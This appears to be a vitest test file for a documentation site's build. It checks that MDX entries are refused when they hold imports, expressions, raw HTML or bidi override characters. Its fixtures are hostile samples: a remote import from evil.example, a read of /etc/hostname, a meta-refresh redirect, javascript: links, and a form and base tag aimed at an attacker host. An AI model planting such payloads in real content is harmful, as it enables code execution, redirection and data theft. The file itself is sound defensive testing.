/**
 * Entries are content, not programs, and their text does not lie about
 * itself: each family of refused constructs in one fixture build that lists
 * them all, each with `content/<path>:<line>:<column>: problem; fix`, and an
 * entry using every allowed construct that builds. The rules are unit-tested
 * in tests/unit/markdown/remarkSafeContent.test.ts, entryLimits.test.ts and
 * tests/unit/content-model/textHygiene.test.ts.
 */
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildFixture, edit } from '../helpers/fixtureBuild.ts';

const BASE = 'tests/fixtures/base';
/** The line an appended text starts on: the fixture file's lines, plus the blank line appended first. */
const after = (file: string) => readFileSync(join(BASE, file), 'utf8').split('\n').length + 1;
const append = (content: string, file: string, lines: string[]) => edit(join(content, file), /\n*$/, `\n\n${lines.join('\n')}\n`);

describe('entries are content, not programs', () => {
  it('imports (Node, local, remote), expressions and components are refused before any of them runs', () => {
    // Would be written if the entry's module were ever evaluated.
    const marker = join(mkdtempSync(join(tmpdir(), 'entry-marker-')), 'ran.txt');
    const { status, output } = buildFixture((c) => {
      edit(
        join(c, 'fr/models/alpha.mdx'),
        /\n## Principe/,
        `\nimport { readFileSync, writeFileSync } from 'node:fs'\nexport const ran = writeFileSync(${JSON.stringify(marker)}, 'ran')\n\n## Principe`,
      );
      append(c, 'fr/models/alpha.mdx', ["Hôte : {readFileSync('/etc/hostname', 'utf8')}, maison : {process.env.HOME}."]);
      edit(join(c, 'zh-cn/models/alpha.mdx'), /\n## /, "\nimport Evil from 'https://evil.example/x.mjs'\n\n## ");
      append(c, 'fr/cases/beta.mdx', ['Une note {/* à revoir */} et une figure <Figure src="/x.png" />.']);
    });
    expect(status).not.toBe(0);
    expect(existsSync(marker)).toBe(false);
    const alpha = 'content/fr/models/alpha.mdx';
    const line = after('fr/models/alpha.mdx') + 3;
    expect(output).toContain(
      `${alpha}:14:1: \`import\`/\`export\`: entries are content, not programs (an import runs code on the build machine, from any module, local or remote); remove it`,
    );
    expect(output).toContain(`${alpha}:${line}:8: \`{readFileSync('/etc/hostname', 'utf8')}\`: entries are content, not programs`);
    expect(output).toContain(`${alpha}:${line}:58: \`{process.env.HOME}\``);
    expect(output).toMatch(/content\/zh-cn\/models\/alpha\.mdx:14:1: `import`\/`export`: entries are content, not programs/);
    const beta = `content/fr/cases/beta.mdx:${after('fr/cases/beta.mdx')}`;
    expect(output).toContain(`${beta}:10: \`{/* comment */}\`: entries hold no expressions, comments included`);
    expect(output).toContain(`${beta}:41: <Figure> is not a tag of this site`);
    // Not Node's loader, not a render error naming a page.
    expect(output).not.toMatch(/default ESM loader|Caught error rendering|ReferenceError/);
  });

  it('markup for the browser and shapes past the limits, all listed at once', () => {
    const { status, output } = buildFixture((c) => {
      append(c, 'fr/models/alpha.mdx', [
        '<meta http-equiv="refresh" content="1;url=https://evil.example/" />',
        '',
        'Un <span onclick="x()">mot</span>, [un lien](javascript:alert(1)), <a href="data:text/html,x">un autre</a>, [encore](data:text/html,x).',
        '',
        '<base href="https://evil.example/" />',
        '',
        '<link rel="stylesheet" href="https://evil.example/x.css" />',
        '',
        '<form action="https://evil.example/">Envoyer</form>',
        '',
        '<iframe src="/fr/" />',
        '',
        '<script>alert(1)</script>',
        '',
        'Un <span style="color: red">mot</span> rouge.',
        '',
        '![Carte](https://example.org/carte.png)',
        '',
        '```js',
        'const x = 1;',
        '```',
      ]);
      append(c, 'zh-cn/models/alpha.mdx', [`${'> '.repeat(10_000)}深`]);
      append(
        c,
        'fr/cases/beta.mdx',
        Array.from({ length: 10_000 }, () => '## T\n'),
      );
    });
    expect(status).not.toBe(0);
    const at = (n: number, col = 1) => `content/fr/models/alpha.mdx:${after('fr/models/alpha.mdx') + n}:${col}: `;
    expect(output).toContain(`${at(0)}<meta> can redirect readers to another site (no security policy stops a refresh)`);
    expect(output).toContain(`${at(2, 10)}event handler onclick= on <span> runs script`);
    expect(output).toContain(
      `${at(2, 36)}link to javascript:alert(1): entries link only to pages of the site (/path/), http(s):// addresses and mailto:`,
    );
    expect(output).toContain(`${at(2, 68)}<a> is written in Markdown here`);
    expect(output).toContain(`${at(2, 109)}link to data:text/html,x`);
    expect(output).toContain(`${at(4)}<base> changes where every link of the page points`);
    expect(output).toContain(`${at(6)}<link> loads a stylesheet`);
    expect(output).toContain(`${at(8)}<form> sends what readers type to another address`);
    expect(output).toContain(`${at(10)}<iframe> embeds another page in this one`);
    expect(output).toContain(`${at(12)}raw <script>`);
    expect(output).toContain(`${at(14, 10)}style attribute on <span>`);
    expect(output).toContain(`${at(16)}image https://example.org/carte.png loads from another site`);
    expect(output).toContain(`${at(18)}a code block`);
    expect(output).toContain(
      `content/zh-cn/models/alpha.mdx:${after('zh-cn/models/alpha.mdx')}:1: blockquotes and lists nested 10000 deep (at most 8); flatten them`,
    );
    expect(output).toMatch(/content\/fr\/cases\/beta\.mdx:\d+:1: heading number 31 \(at most 30 per entry/);
    expect(output).not.toContain('Maximum call stack size exceeded');
  });

  it('control characters and unbalanced bidi controls, in bodies, front matter (raw or escaped) and the termbase', () => {
    const { status, output } = buildFixture((c) => {
      append(c, 'fr/cases/beta.mdx', ['Texte \u0001\u0007\u001B[31m\u007F\u0085\u009B fin.']);
      edit(join(c, 'fr/models/alpha.mdx'), 'title: Modèle alpha', 'title: Modèle \u202Ealpha 3331');
      edit(join(c, 'zh-cn/models/alpha.mdx'), /^title: .*$/m, 'title: "阿尔法 \\u202E3331"');
      const termbase = join(c, 'termbase.json');
      writeFileSync(termbase, readFileSync(termbase, 'utf8').replace(/"name": "([^"]+)"/, '"name": "$1\u2067"'));
    });
    expect(status).not.toBe(0);
    const body = `content/fr/cases/beta.mdx:${after('fr/cases/beta.mdx')}`;
    expect(output).toContain(
      `${body}:7: control character U+0001 START OF HEADING (invisible in most editors; it would reach the page as it is); delete it (search for \\u0001)`,
    );
    for (const [col, name] of [
      [8, 'U+0007 BELL'],
      [9, 'U+001B ESCAPE'],
      [14, 'U+007F DELETE'],
      [15, 'U+0085 NEXT LINE'],
      [16, 'U+009B CONTROL SEQUENCE INTRODUCER'],
    ] as const)
      expect(output).toContain(`${body}:${col}: control character ${name}`);
    expect(output).toContain(
      'content/fr/models/alpha.mdx:2:15: U+202E RIGHT-TO-LEFT OVERRIDE is not closed on its line (everything after it, up to the end of the paragraph or title, is shown right to left); close it with U+202C POP DIRECTIONAL FORMATTING on the same line, or delete it',
    );
    expect(output).toMatch(
      /content\/zh-cn\/models\/alpha\.mdx:2:8: U\+202E RIGHT-TO-LEFT OVERRIDE is not closed on its line .*, written as an escape in this quoted text/,
    );
    expect(output).toMatch(/content\/termbase\.json:\d+:\d+: U\+2067 RIGHT-TO-LEFT ISOLATE is not closed on its line/);
  });

  it('what entries may use builds: lang spans, abbr, sub, sup, br, escaped braces, balanced isolates, links to pages and mailto', () => {
    let fr = '';
    const { status, output } = buildFixture(
      (c) => {
        edit(
          join(c, 'fr/cases/beta.mdx'),
          'La CNPC aide Taiqian.',
          'La <abbr title="China National Petroleum Corporation">CNPC</abbr> (<span lang="zh-CN">中石油</span>) aide Taiqian, H<sub>2</sub>O, 10<sup>e</sup>,<br />\\{accolades\\} et \u2067גב\u2069 [écrire](mailto:contact@example.org).',
        );
      },
      {
        inspect: (dist) => {
          fr = readFileSync(join(dist, 'fr/cases/beta/index.html'), 'utf8');
        },
      },
    );
    expect(output).not.toMatch(/refused/i);
    expect(status).toBe(0);
    expect(fr).toContain('<abbr title="China National Petroleum Corporation">');
    expect(fr).toContain('<span lang="zh-CN">中石油</span>');
    expect(fr).toMatch(/H<sub>2<\/sub>O, 10<sup>e<\/sup>,<br>/);
    expect(fr).toContain('{accolades}');
    expect(fr).toContain('\u2067גב\u2069');
    expect(fr).toContain('href="mailto:contact@example.org"');
  });
});
